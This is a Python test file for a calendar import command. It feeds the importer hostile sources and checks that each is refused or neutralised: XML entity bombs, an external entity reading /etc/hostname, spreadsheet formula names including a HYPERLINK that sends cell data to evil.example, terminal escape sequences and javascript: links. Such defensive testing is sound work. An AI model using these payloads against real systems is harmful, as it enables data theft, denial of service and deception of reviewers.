"""Sources built to attack whoever reviews or uses the import: spreadsheets that amplify into
hours of work or expand XML entities, names that run as spreadsheet formulas, text that rewrites
the reviewer's terminal, links that run script. Each ends in a clear exit 1 or a warning, fast,
with the calendar file untouched or holding only data `check` accepts."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest

from edicalendar.calendar.catalog import load_catalog
from support.cli import CliRunner
from support.workbooks import calendar_rows, cell, row, sheet_xml, workbook

_LOL = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
BILLION_LAUGHS = f'<!DOCTYPE worksheet [<!ENTITY lol0 "lol">{_LOL}]>'
EXTERNAL_ENTITY = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
#: A comment holding something that looks like an element, before the declaration.
BEHIND_A_COMMENT = f"<!-- <worksheet> -->{EXTERNAL_ENTITY}"
#: A declaration padded with megabytes of blank space after its entities, before the root.
PADDED = EXTERNAL_ENTITY.replace("]>", f"{' ' * (3 * 1024 * 1024)}]>")


def _with_entity(prolog: str, entity: str) -> str:
    """A valid calendar sheet whose root element ends with an entity reference: openpyxl
    only meets it while the rows are read, long after the workbook opened."""
    xml = sheet_xml(calendar_rows(), prolog=prolog)
    return xml.replace("</worksheet>", f"&{entity};</worksheet>")


def _import(run_cli: CliRunner, workdir: Path, name: str, body: bytes) -> tuple[int, str, float]:
    (workdir / name).write_bytes(body)
    started = time.monotonic()
    result = run_cli("import", name, "--calendar", "trust")
    return result.code, result.err, time.monotonic() - started


@pytest.mark.timeout(60)
def test_declared_dimension_does_not_pad_rows(workdir: Path, run_cli: CliRunner) -> None:
    """A 2 kB workbook declaring A1:XFD1048576, with one cell in the last row (an hour of CPU
    before), is refused in seconds naming the sheet and the row limit."""
    rows = [*calendar_rows(), row(1_048_576, cell("XFD1048576", "x"))]
    body = workbook(sheet_xml(rows, dimension="A1:XFD1048576"))
    assert len(body) < 4096
    before = (workdir / "calendars" / "trust.toml").read_bytes()
    code, err, elapsed = _import(run_cli, workdir, "wide.xlsx", body)
    assert code == 1, err
    assert "wide.xlsx [Sheet1]: more than 50000 rows in the workbook" in err
    assert elapsed < 20
    assert (workdir / "calendars" / "trust.toml").read_bytes() == before


def test_declared_dimension_is_ignored_for_a_real_sheet(workdir: Path, run_cli: CliRunner) -> None:
    """The same false dimension on an ordinary sheet: rows are read as they are, not padded."""
    body = workbook(sheet_xml(calendar_rows(), dimension="A1:XFD1048576"))
    (workdir / "ok.xlsx").write_bytes(body)
    result = run_cli("import", "ok.xlsx", "--calendar", "trust", "--dry-run")
    assert result.code == 0, result.err
    assert 'name = "Trust Founders Day"' in result.out


@pytest.mark.timeout(60)
def test_wide_rows_read_only_the_first_columns(workdir: Path, run_cli: CliRunner) -> None:
    """Thousands of rows with a cell in column XFD are read 64 columns wide, quickly."""
    rows = [*calendar_rows()] + [
        row(n, cell(f"A{n}", f"Row {n}"), cell(f"XFD{n}", "far right")) for n in range(3, 3003)
    ]
    code, err, elapsed = _import(run_cli, workdir, "far.xlsx", workbook(sheet_xml(rows)))
    assert code == 0, err
    assert elapsed < 20


@pytest.mark.parametrize(
    ("prolog", "entity"),
    [
        (BILLION_LAUGHS, "lol9"),
        (EXTERNAL_ENTITY, "xxe"),
        (BEHIND_A_COMMENT, "xxe"),
        (PADDED, "xxe"),
    ],
    ids=["billion-laughs", "external-entity", "behind-a-comment", "padded-3mb"],
)
def test_entity_declarations_are_refused(
    prolog: str, entity: str, workdir: Path, run_cli: CliRunner
) -> None:
    """Entity expansion and external entities in a worksheet: exit 1 naming the part (they
    escaped as an unexpected ParseError, exit 3, before); nothing of the entity is read."""
    body = workbook(_with_entity(prolog, entity))
    code, err, _ = _import(run_cli, workdir, "bomb.xlsx", body)
    assert code == 1, err
    assert "bomb.xlsx: part xl/worksheets/sheet1.xml declares a DOCTYPE or XML entities" in err
    assert "unexpected" not in err
    assert Path("/etc/hostname").read_text().strip() not in err


def test_utf16_xml_parts_are_refused(workdir: Path, run_cli: CliRunner) -> None:
    """A part in UTF-16, where a byte scan for declarations would see nothing, is refused."""
    xml = sheet_xml(calendar_rows()).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    source = zipfile.ZipFile(io.BytesIO(workbook(xml)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in source.namelist():
            data = source.read(name)
            if name.endswith("sheet1.xml"):
                data = data.decode().encode("utf-16")
            archive.writestr(name, data)
    code, err, _ = _import(run_cli, workdir, "wide16.xlsx", out.getvalue())
    assert code == 1, err
    assert "part xl/worksheets/sheet1.xml is not UTF-8 XML" in err


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1"])
def test_formula_names_are_refused(name: str, workdir: Path, run_cli: CliRunner) -> None:
    """A name that a spreadsheet would run as a formula stops the import at its line."""
    quoted = name.replace('"', '""')
    body = f'Name,Date\nPride Month,June 2026\n"{quoted}",2026-06-01\n'.encode()
    before = (workdir / "calendars" / "trust.toml").read_bytes()
    code, err, _ = _import(run_cli, workdir, "f.csv", body)
    assert code == 1, err
    assert "f.csv:3: name: " in err
    assert "which spreadsheets run as a formula" in err
    assert (workdir / "calendars" / "trust.toml").read_bytes() == before


def test_names_with_control_characters_are_refused(workdir: Path, run_cli: CliRunner) -> None:
    """An ESC sequence in a SUMMARY is refused, and the message shows it escaped, never raw."""
    ics = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//t//t//EN\r\nBEGIN:VEVENT\r\nUID:a\r\n"
        "DTSTAMP:20260101T000000Z\r\nSUMMARY:Pride\x1b[2J\x1b[H0 warnings\r\n"
        "DTSTART;VALUE=DATE:20260601\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    code, err, _ = _import(run_cli, workdir, "t.ics", ics.encode())
    assert code == 1, err
    assert "t.ics:4: name: " in err
    assert "control character U+001B (ESC)" in err
    assert "\x1b" not in err
    assert "\\x1b[2J" in err


def test_terminal_escapes_in_headings_are_shown_not_run(workdir: Path, run_cli: CliRunner) -> None:
    """Text from the file that reaches the review output (an unknown column heading) cannot clear
    the screen: the ESC is printed as `\\x1b`."""
    body = b"Name,Date,\x1b[2J\x1b[H0 warnings\nPride Month,June 2026,x\n"
    (workdir / "t.csv").write_bytes(body)
    result = run_cli("import", "t.csv", "--calendar", "trust", "--dry-run")
    assert result.code == 0, result.err
    assert "\x1b" not in result.out + result.err
    assert "ignored columns not in docs/importing.md: \\x1b[2J\\x1b[H0 warnings" in result.err


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "https://a.example/x y",
     "//evil.example/", "https://"],
)  # fmt: skip
def test_unsafe_links_are_left_out(url: str, workdir: Path, run_cli: CliRunner) -> None:
    """A link that is not http(s) is dropped with a warning; the event is imported and the
    calendar then loads as `check` loads it."""
    body = f'Name,Date,URL\nTrust Founders Day,2026-06-01,"{url}"\n'.encode()
    (workdir / "t.csv").write_bytes(body)
    result = run_cli("import", "t.csv", "--calendar", "trust")
    assert result.code == 0, result.err
    assert "t.csv:2: Trust Founders Day: url " in result.err
    assert "is not a link we publish" in result.err
    # The calendar loads as `check` loads it, and the new observance has no link.
    imported = load_catalog(workdir / "calendars").observances["trust-founders-day"]
    assert imported.url is None
